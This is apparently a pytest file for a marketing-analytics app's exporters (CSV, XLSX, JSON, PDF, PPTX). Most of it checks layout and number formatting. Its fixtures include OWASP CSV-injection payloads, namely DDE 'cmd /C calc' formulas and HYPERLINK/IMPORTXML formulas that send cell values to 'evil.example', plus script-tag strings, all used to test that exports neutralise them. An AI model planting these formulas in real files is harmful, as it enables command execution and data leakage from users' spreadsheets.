"""Every export format, read back: CSV/XLSX formula neutralising, JSON round trip, offline HTML, and the
Chromium-rendered PNG/SVG/PDF/PPTX (those run only where Chromium is installed, as it is on CI)."""
from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import html
import io
import json
import re
import shutil
import struct
import subprocess
import xml.etree.ElementTree as ET
from html import escape as html_escape
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import plotly.graph_objects as go
import pytest
from plotly.offline import get_plotlyjs
from pptx import Presentation
from pptx.enum.shapes import MSO_SHAPE_TYPE
from pptx.enum.text import PP_ALIGN
from pptx.util import Inches, Pt

from microlens import theme
from microlens.export import (
    Brand,
    ExportUnavailable,
    SAMPLE_MARK,
    Section,
    chromium_path,
    figure_image,
    figure_images,
    load_brand,
    neutralise,
    neutralise_frame,
    to_csv,
    to_html,
    to_json,
    to_pdf,
    to_pptx,
    to_xlsx,
)
from microlens.export_data import excel_sheet_names
from microlens.export_model import (accent_on_white, cell_text, ink_on,
                                    presentation_figure, table_preview)
from microlens.export_pdf import PDF_TABLE_ROWS, report_html
from microlens.text import headline_parts, site_of

# A 1x1 PNG (the smallest valid one) for logos.
TINY_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c6360f8cfc0f01f0005000201e2269a1b0000000049454e44ae426082")

# OWASP "CSV Injection" payloads and variants; every one must come back as text.
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x")',
    '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: click here")',
    "+cmd|' /C notepad'!'B1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1)",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://x/?v=", A1), "//a")',
    "=1+1",
    "-1+2",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\n@SUM(A1)",
    "＝1+1",
]
HOSTILE = ['=HYPERLINK("http://x")', "<script>alert(1)</script>", "@SUM(A1)", "café crème ☕", "-5",
           "+1+1"]

chromium = pytest.mark.skipif(chromium_path() is None, reason="needs Chromium (apt-get install chromium)")


def hostile_table() -> pd.DataFrame:
    return pd.DataFrame({
        "influencer": HOSTILE,
        "followers": [12_000, 45_000, 88_000, 15_000, -5, 3],
        "er": [0.031, 0.052, float("nan"), 0.044, 0.01, 0.02],
        "posted_at": pd.to_datetime(["2025-03-01 10:00"] * 6).tz_localize("Europe/Madrid"),
    })


def bar_figure(title: str = "Micro posts cost less") -> go.Figure:
    return go.Figure(go.Bar(x=["nano", "micro", "celebrity"], y=[0.03, 0.04, 0.52]),
                     layout=dict(title=title))


def sample_sections() -> list[Section]:
    bands = pd.DataFrame({"band": ["nano", "micro", "celebrity"], "cpe": [0.03, 0.04, 0.52]})
    return [
        Section("cpe", "Cost vs celebrity", "Micro posts cost 13x less per engagement", bar_figure(), bands,
                source="brief (unverified): $20,000–$100,000 per celebrity post",
                sql="select band, sum(cost) / sum(engagements) as cpe from posts group by band"),
        Section("roster", "Roster", "<script>alert(1)</script> leads the roster", None, hostile_table(),
                source="Your uploaded posts"),
        Section("prices", "Prices / fees: Q3", "84% of micro posts cost under $250", bar_figure("Prices"),
                pd.DataFrame({"price": [120.0, 240.0]})),
    ]


# --- neutralising -------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", INJECTIONS + ["-$A$1", "-1,2+3", "-5%+1", "+$1(", "-1;2"])
def test_injection_payloads_become_text(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("payload", ["\x01=1+1", "\x08\x00@SUM(A1)", "\x7f+cmd", " \x1f-2+3"])
def test_formulas_behind_control_characters_become_text(payload):
    # the XLSX writer removes the control characters Excel refuses, which would leave the formula live
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["hello", "-5", "+1.5", "3.2e-4", " -5 ", "user@example.com", "a=b", "",
                                   "   ", "e-mail", 42, -5, -5.0, None, True,
                                   # a rejected row's cells as the user wrote them: numbers, not formulas
                                   "-1,200", "-$50.00", "-5%", "-1.200,50", "-.5", "+€12"])
def test_harmless_values_are_untouched(value):
    result = neutralise(value)
    assert result == value and type(result) is type(value)


def test_neutralise_frame_touches_only_text_and_labels():
    df = pd.DataFrame({"name": ["=1+1", "ok"], "n": [-5, 7], "=label": ["x", "@y"]})
    df["band"] = pd.Categorical(["-a", "b"])
    out = neutralise_frame(df)
    assert list(out.columns) == ["name", "n", "'=label", "band"]
    assert out["name"].tolist() == ["'=1+1", "ok"]
    assert out["'=label"].tolist() == ["x", "'@y"]
    assert out["band"].tolist() == ["'-a", "b"]
    assert out["n"].tolist() == [-5, 7] and out["n"].dtype == df["n"].dtype
    assert df["name"].tolist() == ["=1+1", "ok"]      # the input is not modified
    twins = neutralise_frame(pd.DataFrame([["=a", 1, "@b"]], columns=["x", "y", "x"]))
    assert twins.values.tolist() == [["'=a", 1, "'@b"]]


# --- CSV / XLSX / JSON --------------------------------------------------------------------------------

def test_csv_has_bom_and_neutralised_cells():
    data = to_csv(hostile_table())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["influencer", "followers", "er", "posted_at"]
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE[0], HOSTILE[1], "'@SUM(A1)", "café crème ☕", "-5",
                                       "'+1+1"]
    assert [r[1] for r in rows[1:]] == ["12000", "45000", "88000", "15000", "-5", "3"]
    assert rows[3][2] == ""                            # NaN is an empty cell


def test_csv_cells_are_safe_in_an_excel_that_splits_lines_at_semicolons():
    # Excel with a ';' list separator (German, French… settings) splits a comma CSV's lines at every ';', quoted or
    # not: the part after one is a cell's start there
    frame = pd.DataFrame({"caption": ["nice;=cmd|' /C calc'!A0", "a, b; @SUM(A1)", "10; 20", "no semicolon"],
                          "nice;=label": [1, 2, 3, 4]})
    text = to_csv(frame).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["caption", "nice;'=label"]
    assert [r[0] for r in rows[1:]] == ["nice;'=cmd|' /C calc'!A0", "a, b;' @SUM(A1)", "10; 20", "no semicolon"]
    assert not re.search(r";\s*[=+@-]", text)        # no part of a line after a ';' starts a formula
    assert neutralise("nice;=x") == "nice;=x"          # a workbook's cell is one cell: only its start counts


def test_csv_writes_whole_counts_beside_a_missing_value_without_a_decimal():
    # a count column with a missing value is stored as floats: the CSV read "36.0" comments
    frame = pd.DataFrame({"comment_texts": [36.0, None], "cpe": [0.25, 1.0], "huge": [2.0 ** 60, None]})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert rows[1:] == [["36", "0.25", str(2.0 ** 60)], ["", "1.0", ""]]


def test_csv_writes_sums_of_cents_without_binary_noise():
    # fees summed as binary floats: the file read 21763.989999999998 where the table showed $21,763.99
    fees = pd.Series([0.1] * 3 + [21763.69])
    frame = pd.DataFrame({"cost": [fees.sum(), 0.1 + 0.2], "er": [1 / 3, 2.0 ** 60],
                          "orders": [0.1 * 3 / 0.1, 2.0]})           # a count summed as floats: 3.0000000000000004
    assert repr(frame["cost"][0]) != "21763.99" and repr(frame["cost"][1]) != "0.3"   # the noise is there to lose
    assert frame["orders"][0] != 3
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert rows[1:] == [["21763.99", "0.333333333333", "3"], ["0.3", str(2.0 ** 60), "2"]]


def test_csv_names_platforms_as_the_pages_do_except_in_cells_as_written():
    # the Influencers table's CSV read "tiktok" where the page and the workbook say "TikTok"
    frame = pd.DataFrame({"influencer": ["a", "b"], "platform": ["tiktok", "IG Story"],
                          "trial_platform": ["tiktok", None]})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert [r[1:] for r in rows[1:]] == [["TikTok", "TikTok"], ["IG Story", ""]]     # the roster's trial_platform too
    # a rejected row's cells go back as the user wrote them, to fix and upload again
    rows = list(csv.reader(io.StringIO(to_csv(frame, as_written=True).decode("utf-8-sig"))))
    assert [r[1:] for r in rows[1:]] == [["tiktok", "tiktok"], ["IG Story", ""]]


def test_excel_sheet_names_are_valid_and_unique():
    names = excel_sheet_names(["Cost vs celebrity", "cost VS celebrity", "a/b:c*?[x]", "'quoted'", "",
                               "History", "x" * 40, "x" * 40, "About"], reserved=("About",))
    assert names == ["Cost vs celebrity", "cost VS celebrity (2)", "a b c x", "quoted", "Sheet",
                     "History data", "x" * 30 + "…", "x" * 27 + " (2)", "About (2)"]
    # brackets left out and a word said twice said once: the two platforms' sheets were "Takeover lift Summer
    # Takeover (" and "Takeover lift Summer Takeov (2)"; then cut between words, the last ", part" kept
    titles = [f"Takeover lift: Summer Takeover (06 Jul – 26 Jul 2026), {p}" for p in ("Instagram", "TikTok")]
    assert excel_sheet_names(titles + ["Long campaign name with many words, Instagram"]) == [
        "Takeover lift Summer Instagram", "Takeover lift Summer TikTok", "Long campaign name… Instagram"]


def test_a_ranking_sheet_is_named_by_the_metric_it_ranks_by():
    # "Campaign codes ranked by…" named every ranking's sheet alike and said by what it ranked
    from microlens import metrics

    ranked_by = [metrics.BY_NAME[name] for name in ("roas", "roi", "net_revenue", "cpa", "cost_per_lead", "cpe", "cpm")]
    names = excel_sheet_names([f"Campaign codes ranked by {metric.label}" for metric in ranked_by])
    assert all(len(name) <= 31 for name in names) and len({name.lower() for name in names}) == len(names)
    for metric, name in zip(ranked_by, names):
        # the metric by its abbreviation, or its whole name after a cut head
        assert name.endswith((f" by {metric.name.upper()}", f" by {metric.label}")), name
    assert "Campaign codes ranked by ROAS" in names


def test_xlsx_reads_back_neutralised_with_bold_header():
    sections = sample_sections()
    sections[1].table.loc[0, "influencer"] = "bell\x07 =1+1"   # a control character Excel rejects
    # ...and one in front of a formula: the writer removes it, and what it hid must not run
    sections[1].table.loc[3, "influencer"] = '\x01=HYPERLINK("http://evil.example/?"&A1,"Olivia")'
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sections)))
    assert workbook.sheetnames == ["Cost vs celebrity", "Roster", "Prices fees Q3", "About"]
    roster = workbook["Roster"]
    # headers in words, as the pages and the deck name the columns
    assert [c.value for c in roster[1]] == ["Influencer", "Followers", "Engagement rate (by followers)", "Posted at"]
    assert all(c.font.bold for c in roster[1])
    assert roster.freeze_panes == "A2"
    assert roster.auto_filter.ref == "A1:D7"           # a filter on every column, over the header and six rows
    # text as it was written, no formula cell at all, and Excel's hidden quote prefix on what would run as one
    # (a literal "'" in front showed on every such cell)
    assert [roster.cell(r, 1).value for r in range(2, 8)] == [
        "bell =1+1", HOSTILE[1], "@SUM(A1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Olivia\")", "-5", "+1+1"]
    assert all(roster.cell(r, 1).data_type == "s" for r in range(2, 8))
    assert [roster.cell(r, 1).quotePrefix for r in range(2, 8)] == [False, neutralise(HOSTILE[1]) != HOSTILE[1],
                                                                    True, True, False, True]
    assert roster.cell(6, 2).value == -5                 # a negative number stays a number
    assert roster.cell(4, 3).value is None               # NaN -> empty
    assert roster.cell(2, 4).value == dt.datetime(2025, 3, 1, 10, 0)   # wall-clock time, zone dropped
    # numbers stay numbers, shown as the app shows them: CPE in dollars, ER as a percent, counts with separators
    cost, prices = workbook["Cost vs celebrity"], workbook["Prices fees Q3"]
    assert (cost.cell(2, 2).value, cost.cell(2, 2).number_format) == (0.03, "$#,##0.000")
    assert (roster.cell(2, 3).value, roster.cell(2, 3).number_format) == (0.031, "0.0%")
    assert (roster.cell(2, 2).value, roster.cell(2, 2).number_format) == (12_000, "#,##0")
    assert prices.cell(2, 1).number_format == "$#,##0" and roster.cell(2, 1).number_format == "General"
    about = workbook["About"]
    assert [c.value for c in about[1]] == ["Sheet", "Title", "Finding", "Source", "SQL"]
    assert about.cell(3, 1).value == "Roster" and about.cell(3, 3).value.startswith("<script>")
    assert about.cell(2, 5).value.startswith("select band")


def test_xlsx_about_sheet_says_which_report_it_is():
    # the workbook had no title, date or filters: a sheet passed on alone said nothing of where it came from
    workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sample_sections(), SAMPLE_MARK, "=Q3 review",
                                                         "06 December 2026 · Instagram only")))
    about = workbook["About"]
    assert [about.cell(r, 1).value for r in range(1, 5)] == [
        SAMPLE_MARK, "=Q3 review", "06 December 2026 · Instagram only", "Sheet"]
    assert about.cell(2, 1).quotePrefix and about.cell(2, 1).font.bold     # a title is text, never a formula
    assert about.freeze_panes == "A5" and about.auto_filter.ref == "A4:E7"  # the header and three sections
    assert workbook["Roster"].cell(2, 1).value == "Influencer"               # the data sheets as they were


def test_xlsx_formats_dates_counts_and_signed_dollars_as_the_pages_do():
    table = pd.DataFrame({"date": [dt.date(2026, 1, 5), dt.date(2026, 1, 6)],
                          "posted_at": pd.to_datetime(["2026-01-05 14:03", "2026-01-06 00:00"]),
                          "week": pd.to_datetime(["2026-01-05", "2026-01-12"]),
                          "shares": [1200, 35], "saves": [4000, 2], "net_revenue": [-125_373.4, 3_507.2]})
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Section("c", "Campaigns", "f", None, table)])))["Campaigns"]
    formats = {sheet.cell(1, c).value: sheet.cell(2, c).number_format for c in range(1, 7)}
    assert formats == {"Date": "yyyy-mm-dd", "Posted at": "yyyy-mm-dd hh:mm", "Week": "yyyy-mm-dd",
                       "Shares": "#,##0", "Saves": "#,##0", "Revenue − cost ($)": "+#,##0;-#,##0;0"}
    assert sheet.cell(2, 6).value == -125_373.4            # the format rounds the shown value, not the stored one




def test_xlsx_cost_per_engagement_has_the_decimals_the_pages_tables_give_it():
    # one number of decimals for the column, from its smallest cost, as the Influencers and Campaigns tables show
    # it (theme.cpe_printf): "$0.0000" read a viral crawl's $0.0000037, and "$0.0840" beside "$6.0600" was four on
    # every row
    for cpes, decimals in (([0.084, 0.49, 6.06, 113.0], 3), ([0.0000037, 0.49], 6), ([0.24, 6.06], 2)):
        sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx([Section("c", "Cost", "f", None,
                                                                   pd.DataFrame({"cpe": cpes}))])))["Cost"]
        formats = {sheet.cell(2 + i, 1).number_format for i in range(len(cpes))}
        assert formats == {"$#,##0." + "0" * decimals}
        assert theme.cpe_printf(cpes) == f"$%.{decimals}f"

def test_json_round_trip():
    sections = sample_sections()
    payload = json.loads(to_json(sections))
    assert [p["key"] for p in payload] == ["cpe", "roster", "prices"]
    assert payload[0]["table"] == [{"band": "nano", "cpe": 0.03}, {"band": "micro", "cpe": 0.04},
                                   {"band": "celebrity", "cpe": 0.52}]
    roster = payload[1]["table"]
    assert [r["influencer"] for r in roster] == HOSTILE    # JSON keeps values exactly as they are
    assert roster[2]["er"] is None
    assert roster[0]["posted_at"] == "2025-03-01T09:00:00.000Z"   # 10:00 in Madrid (UTC+1) as UTC
    assert payload[1]["finding"] == sections[1].finding and payload[0]["source"] == sections[0].source


# --- brand and display rules --------------------------------------------------------------------------

def test_brand_colour_is_validated_and_normalised():
    assert Brand(primary="#e90").primary == "#EE9900"
    for bad in ["red", "#12345", "#0072B2; } body { x", "0072B2"]:
        with pytest.raises(ValueError, match="not a hex colour"):
            Brand(primary=bad)
    with pytest.raises(ValueError, match="PNG or JPEG"):
        Brand(logo=b"<svg/>")


def test_load_brand(tmp_path):
    (tmp_path / "logo.png").write_bytes(TINY_PNG)
    (tmp_path / "brand.toml").write_text('name = "Acme"\nprimary = "#E69F00"\nlogo = "logo.png"\n')
    assert load_brand(tmp_path / "brand.toml") == Brand("Acme", "#E69F00", TINY_PNG)
    (tmp_path / "bad.toml").write_text('name = "Acme"\nprimary = "orange"\n')
    with pytest.raises(ValueError, match="'orange' is not a hex colour"):
        load_brand(tmp_path / "bad.toml")
    (tmp_path / "nologo.toml").write_text('logo = "missing.png"\n')
    with pytest.raises(ValueError, match="missing.png.*does not exist"):
        load_brand(tmp_path / "nologo.toml")
    (tmp_path / "typo.toml").write_text('colour = "#000000"\n')
    with pytest.raises(ValueError, match="unknown keys colour"):
        load_brand(tmp_path / "typo.toml")
    (tmp_path / "broken.toml").write_text('name = "Acme\n')
    with pytest.raises(ValueError, match="not valid TOML"):
        load_brand(tmp_path / "broken.toml")


def test_text_colours_keep_contrast():
    assert ink_on("#0072B2") == "#FFFFFF"           # white on the house blue
    assert ink_on("#F0E442") == "#1F2933"           # dark on the Okabe-Ito yellow
    assert accent_on_white("#0072B2") == "#0072B2"  # 5.2:1 on white, readable
    assert accent_on_white("#F0E442") == "#1F2933"  # 1.3:1 on white, replaced


def test_cell_text():
    assert [cell_text(v) for v in [12345, 0.0123, 1234.5678, float("nan"), None, pd.NaT, True,
                                   pd.Timestamp("2025-03-01"), pd.Timestamp("2025-03-01 10:05")]] == [
        "12,345", "0.0123", "1,234.57", "–", "–", "–", "yes", "2025-03-01", "2025-03-01 10:05"]


def test_export_tables_read_as_the_apps_tables():
    from microlens.export_model import table_text

    # the shortlist, campaign and claims columns as a client saw them in the PDF: 0.0550155, 0.0107058, 2.60822,
    # 5625.9, -1.41176 and snake_case labels
    table = pd.DataFrame({"influencer": ["a", "b"], "median_er": [0.0550155, None], "cpe": [0.0107058, 0.2],
                          "price": [25.0, 130.0], "cost": [5625.9, 22000.0], "roas": [2.60822, 0.5],
                          "difference_pts": [-1.41176, 6.0], "cost_estimated": [True, False], "year": [2016, 2020],
                          "followers": [40937, 64216]})
    text = table_text(table)
    # the pages' own labels, from the catalog (the Prices and Planner tables said "Price per post" and "Your data −
    # claim" where their slides said "Price" and "Difference pts")
    assert text.labels == ["Influencer", "Median ER by followers", "Cost per engagement", "Price per post", "Cost",
                           "ROAS", "Your data − claim", "Cost estimated", "Year", "Followers"]
    assert text.rows == [["a", "5.5%", "$0.011", "$25.00", "$5,626", "2.61×", "-1 pts", "yes", "2016", "40,937"],
                         ["b", "–", "$0.20", "$130.00", "$22,000", "0.50×", "+6 pts", "no", "2020", "64,216"]]
    assert text.numeric == [False, True, True, True, True, True, True, False, True, True]
    # words of column names as a client writes them, and kinds by what the column counts: a report had "Ci low"
    # 0.184426 beside "Lift" 34.9%, and "Posts with spend" as $7.00
    more = table_text(pd.DataFrame({"lift": [0.349], "ci_low": [0.184426], "exp_engagements": [1200.4],
                                    "usd_per_1k": [3.1717], "posts_with_spend": [7], "signups": [12]}))
    # "Signups" in one Campaigns table beside "Sign-ups" in the next
    assert more.labels == ["Lift", "Interval low", "Expected engagements", "$ per 1K followers", "Posts with spend",
                           "Sign-ups"]
    assert more.rows == [["34.9%", "18.4%", "1,200", "$3.17", "7", "12"]]


def test_a_table_of_wrapping_text_shows_the_rows_that_fit_its_page():
    from microlens.export_model import TableType, fitting_rows

    # 20 rows in 100 units of room, 40 characters across less 2 a cell: a one-line row takes 3 + 4 = 7 units, so 13
    # short rows fit under the header (14 × 7 = 98)
    kind = TableType(row_pad=3, line=4, width_chars=40, cell_pad_chars=2)
    short = pd.DataFrame({"key_name": [f"k{i}" for i in range(20)], "value": range(20)})
    preview, note, _, heights = fitting_rows(short, 15, 8, 100, kind, 200)
    assert len(preview) == 13 and sum(heights) <= 100 and note.startswith("Showing the first 13 of 20 rows")
    # a definition of 17 words of 5 letters (101 characters) beside them cannot stay on one line in the 34
    # characters: "Key name" and "Value" keep their longest words (4 and 5) and a little more, the definition most of
    # the rest, 24 characters: 4 words a line, 5 lines a row (3 + 20 = 23); the header's 2 lines (11) and 3 rows
    # (80) fit, a fourth (103) not
    wordy = short.assign(definition=[" ".join(["xxxxx"] * 17)] * 20)
    preview, note, text, heights = fitting_rows(wordy, 15, 8, 100, kind, 200)
    assert heights[0] == 11 and heights[1:] == [23] * 3 and len(preview) == 3 == len(text.rows)
    assert note.startswith("Showing the first 3 of 20 rows")


def test_columns_share_the_width_as_a_browser_lays_them_out():
    from microlens.export_model import column_chars

    # every cell fits on one line: each column as wide as its longest cell, however unequal (an equal or
    # proportional share of a narrower width wrapped "listed price (no fee paid)" and left a slide 11 of 15 rows)
    cells = [["Influencer", "Cost from", "Price"], ["avawears", "listed price (no fee paid)", "$25.00"]]
    assert column_chars(cells, 60, 2) == [10, 26, 6]
    # too wide: each column keeps its longest word, and only the wrapping text shares what is left
    cells = [["Name", "Definition"], ["a", "x " * 40]]
    widths = column_chars(cells, 30, 2)
    assert widths[0] == 4 and widths[0] + widths[1] == 30 - 2 * 2


def test_table_preview_fits_a_slide_and_names_platforms_as_in_the_app():
    table = pd.DataFrame({"influencer": ["a", "b", "c"], "platform": ["tiktok", None, "youtube"], "posts": [1, 2, 3]})
    preview, note = table_preview(table, 2, 2)
    assert list(preview.columns) == ["influencer", "platform"]
    assert [cell_text(v) for v in preview["platform"]] == ["TikTok", "–"]
    assert note == "Showing the first 2 of 3 rows and first 2 of 3 columns; the data export has all of it."
    assert table["platform"].iloc[0] == "tiktok"     # the section's own table is untouched
    # a catalog key is for the Benchmarks page, not a client: left out, and not counted as a column left out
    keyed = pd.DataFrame({"claim": ["brief: 84%"], "key": ["brief-micro-under-250"], "claimed": [0.84]})
    preview, note = table_preview(keyed, 5, 2)
    assert list(preview.columns) == ["claim", "claimed"] and note == ""
    # nor a description repeating the other columns as a sentence (the price outliers' slide fitted 7 of 41 rows)
    described = pd.DataFrame({"description": ["a on TikTok, 40K followers, charges $25 …"], "influencer": ["a"]})
    assert list(table_preview(described, 5, 8)[0].columns) == ["influencer"]


def shortlist_like(rows: int = 15) -> pd.DataFrame:
    return pd.DataFrame({"influencer": [f"creator.handle{i}" for i in range(rows)], "platform": "tiktok",
                         "followers": 40_937, "median_er": 0.055, "cpe": 0.011, "price": 25.0,
                         "cost_from": "listed price (no fee paid)", "intent_rate": 0.02,
                         "flags_summary": "", "profile_url": "https://www.tiktok.com/@creator.handle"})


def test_a_slide_headed_the_15_cheapest_shows_all_15_in_smaller_type():
    from microlens.export_pptx import CHART_HEIGHT, TABLE_SIZES, slide_table

    # a slide headed "The 15 cheapest micro-influencers" showed the first 12 of 15 rows at 12 pt
    fitted = slide_table(shortlist_like(), CHART_HEIGHT - Inches(0.45))
    assert len(fitted.text.rows) == 15 and fitted.size < TABLE_SIZES[0] and "rows" not in fitted.note
    assert slide_table(shortlist_like(5), CHART_HEIGHT).size == TABLE_SIZES[0]     # a short table keeps its type
    # past the smallest type, the rows that fit, and a note saying so
    tall = slide_table(shortlist_like(15).assign(flags_summary="a long note " * 12), Inches(3))
    assert len(tall.text.rows) < 15 and tall.size == TABLE_SIZES[-1] and "of 15 rows" in tall.note


def test_a_slide_tables_address_is_a_link_named_by_its_site():
    # the benchmarks slide showed "https://www.marketingdive.com/news/bran…", neither readable nor usable; whole, the
    # address would still read as a path rather than as where the figure was read
    table = benchmarks_like(3)
    deck = Presentation(io.BytesIO(to_pptx([Section("b", "Benchmarks used", "3 figures", None, table)], "T")))
    grid = next(shape.table for shape in deck.slides[1].shapes if shape.has_table)
    column = list(table.columns).index("url")
    for row in range(1, 4):
        run = grid.cell(row, column).text_frame.paragraphs[0].runs[0]
        assert run.text == site_of(table["url"].iloc[0]) and run.hyperlink.address == table["url"].iloc[0]


def test_pdf_and_deck_link_only_an_address_columns_cells():
    # a handle that is a whole web address (the uploader's text) was a link named by its site in the PDF and the
    # deck, hiding its path, in a report sent to a client; the HTML report links address columns alone
    table = pd.DataFrame({"influencer": ["https://evil.example/login", "@ana"],
                          "url": ["https://instagram.com/p/abc", "https://instagram.com/p/def"]})
    section = Section("t", "Posts", "Two posts", None, table)
    page = report_html([section], "Report", "", Brand(), [None])
    parser = _Collector()
    parser.feed(page)
    hrefs = [link["href"] for link in parser.links if not link["href"].startswith("#")]
    assert hrefs == ["https://instagram.com/p/abc", "https://instagram.com/p/def"]
    assert "<td>https://evil.example/login</td>" in page      # whole, not "evil.example" hiding its path
    deck = Presentation(io.BytesIO(to_pptx([section], "T")))
    grid = next(shape.table for shape in deck.slides[1].shapes if shape.has_table)
    handle = grid.cell(1, 0).text_frame.paragraphs[0].runs[0]
    assert handle.text == "https://evil.example/login" and handle.hyperlink.address is None
    link = grid.cell(1, 1).text_frame.paragraphs[0].runs[0]
    assert link.text == "instagram.com" and link.hyperlink.address == "https://instagram.com/p/abc"


def test_a_qualification_fits_whole_in_smaller_type_rather_than_cut():
    from microlens.export_pptx import (FINDING_TEXT_HEIGHT, FINDING_TEXT_WIDTH, QUALIFY_SIZE, SMALL_QUALIFY_SIZE,
                                       finding_layout, text_height)

    # the Planner's slide cut its second sentence at "…across engagement-rate sources …", the celebrity's CPE lost
    answer = ("For $20,000 ($18,305 spent), 117 micro posts from 117 influencers are expected to earn 193,000 "
              "engagements, 3.9× one celebrity post at $20,000 (50,000 engagements)")
    qualified = ("The micro posts' 90% range is 174,000–213,000, the celebrity's 16,000–83,000 across "
                 "engagement-rate sources; per engagement, too, the micro posts cost $0.095 against the celebrity's "
                 "$0.24–$1.21, with $1,695 of the budget left.")
    size, shown, qualify_size, growth = finding_layout(answer, qualified)
    assert shown == qualified and qualify_size == SMALL_QUALIFY_SIZE < QUALIFY_SIZE < size and growth == 0
    assert (text_height(answer, size, FINDING_TEXT_WIDTH, bold=True)
            + text_height(qualified, qualify_size, FINDING_TEXT_WIDTH)) <= FINDING_TEXT_HEIGHT
    deck = Presentation(io.BytesIO(to_pptx([Section("p", "Planner", f"{answer}; {qualified}", None,
                                                    pd.DataFrame({"a": [1]}))], "T")))
    caveat = deck.slides[1].shapes.title.text_frame.paragraphs[1]
    assert caveat.text == qualified and caveat.runs[0].font.size == Pt(SMALL_QUALIFY_SIZE)


def test_the_answers_findings_stay_whole_in_the_pdf_and_the_deck():
    # a crawl's answer page cut its findings at 400 characters ("…476 of 545 micro-influencers left out…") over a page
    # two-thirds empty; a two-column table's second column spans the page, so its cells keep twice as many
    from microlens.export_pdf import PDF_CELL_CHARS, section_pages
    from microlens.export_pptx import CHART_HEIGHT, PPTX_CELL_CHARS, slide_table
    finding = "At the rate card's prices, the median micro-influencer costs $0.017 per like; " * 6 + "left out as viral"
    assert PDF_CELL_CHARS == PPTX_CELL_CHARS < len(finding) < 2 * PDF_CELL_CHARS
    answer = pd.DataFrame({"question": ["Cheaper per engagement than a celebrity?", "Whom to book first?"],
                           "finding": [finding, "The 11 cheapest cost $0.010"]})
    page = "".join(section_pages(Section("answer", "The answer", "What your data says", None, answer), None))
    assert html.escape(finding) in page and "…" not in page
    assert slide_table(answer, CHART_HEIGHT).cells[1][1] == finding
    # a wider table's cells are still cut, so that one row fits a page in eight columns
    wide = answer.assign(**{f"c{i}": "x" for i in range(3)})
    assert slide_table(wide, CHART_HEIGHT).cells[1][1].endswith("…")


def test_a_page_headed_the_15_cheapest_shows_all_15_in_smaller_type():
    from microlens.export_pdf import PDF_TABLE_SIZES, PDF_TABLE_TYPE, table_fit

    # the PDF's shortlist page showed 13 of 15 under its 11 lines of sources: 16 one-line rows at 10 pt take
    # 16 × 7.6 = 122 mm; in 110 mm they fit at a smaller size, on the one page
    room = 16 * (PDF_TABLE_TYPE.row_pad + PDF_TABLE_TYPE.line) - 12
    fitted = table_fit(shortlist_like(), room, room, room)
    assert len(fitted.pages) == 1 and len(fitted.pages[0]) == 15 and fitted.size < PDF_TABLE_SIZES[0]
    assert "rows" not in fitted.note
    assert table_fit(shortlist_like(5), room, room, room).size == PDF_TABLE_SIZES[0]


def test_a_short_table_keeps_its_cells_whole_on_a_page():
    from microlens.export_pdf import table_fit

    # three claims cut every note at 48 characters over two thirds of an empty page
    note = "Claim of the product brief; no primary source found for it in any report read"
    claims = pd.DataFrame({"claim": ["brief: 84%", "brief: 97%", "Ignite 2019: 66%"], "note": [note] * 3})
    fitted = table_fit(claims, 105, 105, 105)
    assert [row[1] for row in fitted.pages[0]] == [note] * 3


def benchmarks_like(rows: int) -> pd.DataFrame:
    definition = "price per post, any, celebrity (>1M): a figure the brief gives for a post of a celebrity account"
    return pd.DataFrame({"used for": "celebrity CPE: price per post", "value": "$20,000–$100,000",
                         "source": "Product brief", "year": 2016, "definition": [f"{i} {definition}" for i in
                                                                                 range(rows)],
                         "url": "https://www.marketingdive.com/news/brand-marketers-influencer-marketing/"})


def test_a_slide_table_over_two_slides_shares_its_rows_evenly_in_larger_type():
    # 15 rows in 10 pt and then 2 alone in 12 pt: the rows shared 9 and 8, in type as large as each slide allows
    one = Presentation(io.BytesIO(to_pptx([Section("b", "Benchmarks used", "f", None, benchmarks_like(15),
                                                   every_row=True)], "T")))
    grid = next(shape.table for shape in one.slides[1].shapes if shape.has_table)
    full_size = grid.cell(1, 0).text_frame.paragraphs[0].runs[0].font.size
    assert len(one.slides) == 2 and len(grid.rows) == 16          # 15 rows fill one slide
    deck = Presentation(io.BytesIO(to_pptx([Section("b", "Benchmarks used", "f", None, benchmarks_like(17),
                                                    every_row=True)], "T")))
    grids = [next(shape.table for shape in slide.shapes if shape.has_table) for slide in list(deck.slides)[1:]]
    assert [len(g.rows) - 1 for g in grids] == [9, 8]
    assert all(g.cell(1, 0).text_frame.paragraphs[0].runs[0].font.size > full_size for g in grids)


def test_a_slide_table_of_every_row_goes_on_over_the_next_slides():
    from microlens.export_model import CONTINUED
    from microlens.export_pptx import FOOTNOTE_TOP

    # the deck's "Benchmarks used" showed the first 11 of 17 rows, six of the Influencers chart's ER tiers unlisted
    table = benchmarks_like(40)
    finding = "40 benchmark figures behind the headline numbers; all at their sourced defaults"
    deck = Presentation(io.BytesIO(to_pptx([Section("b", "Benchmarks used", finding, None, table, every_row=True)],
                                           "T")))
    slides = list(deck.slides)[1:]
    grids = [next(shape.table for shape in slide.shapes if shape.has_table) for slide in slides]
    assert len(slides) >= 3
    # every row once, in order, each slide's table above its footnote
